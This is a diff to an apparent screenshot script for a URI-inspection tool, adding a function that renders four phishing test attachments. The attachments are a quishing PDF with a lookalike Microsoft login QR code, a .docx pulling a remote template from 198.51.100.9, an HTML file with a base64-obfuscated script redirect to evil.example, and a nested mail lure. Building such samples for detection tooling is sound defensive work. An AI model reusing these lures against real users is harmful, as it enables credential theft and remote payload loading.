@@ -92,6 +92,7 @@ def main() -> int:
     page_links(app, fresh, save)
     fresh.close()
     site_and_lessons(app, save)
+    attachments(app, save)
     for dark in (False, True):
         small_and_presentation(app, save, dark=dark)
     for path in written:
@@ -501,6 +502,51 @@ def site_and_lessons(app: QApplication, save: Any) -> None:
     lessons.checkButton.click()
     settle(app)
     save(w, "lessons")
+    w.documents.shutdown()
+    w.close()
+
+
+def attachments(app: QApplication, save: Any) -> None:
+    """Issue 24's shots: a quishing PDF, a docx's remote template, a script redirect in an
+    HTML attachment, and a mail › zip › pdf › QR nest with the mail's context strip."""
+    import base64
+
+    from tests.gui.test_document_parts import _lure
+    from tests.sources.offices import with_remote_template, word_document
+    from tests.sources.pdfs import page_pdf
+    from uriinspector.gui import MainWindow
+
+    folder = Path(tempfile.mkdtemp(prefix="uri-shots-attach-"))
+    w: Any = MainWindow()
+    w.resize(1280, 800)
+    w.show()
+    settle(app)
+    w.dock("extract").show()
+    w.dock("extract").raise_()
+    script = ("window.location = atob('"
+              + base64.b64encode(b"https://statement.evil.example/login?case=").decode()
+              + "') + location.hash.slice(1);")
+    shots = (
+        ("invoice.pdf", page_pdf(text="Your mailbox is almost full.\nScan the code with your "
+                                 "phone to keep your messages.",
+                                 qr="https://login.microsoftonline.com.evil.example/common"),
+         "attach-quishing-pdf"),
+        ("payment.docx", with_remote_template(word_document(), "http://198.51.100.9/t.dotm"),
+         "attach-docx-template"),
+        ("statement.html", ("<!doctype html><html><body><p>Loading your statement…</p>"
+                            f"<script>{script}</script></body></html>").encode(),
+         "attach-script-redirect"),
+        ("invoice.eml", _lure(), "attach-nested-zip"),
+    )
+    for name, data, shot in shots:
+        path = folder / name
+        path.write_bytes(data)
+        _read(app, w, path)
+        view = w.pane("extract").documentView
+        if view.model.rowCount():
+            view.select_row(0)
+        settle(app)
+        save(w, shot)
     w.documents.shutdown()
     w.close()
 
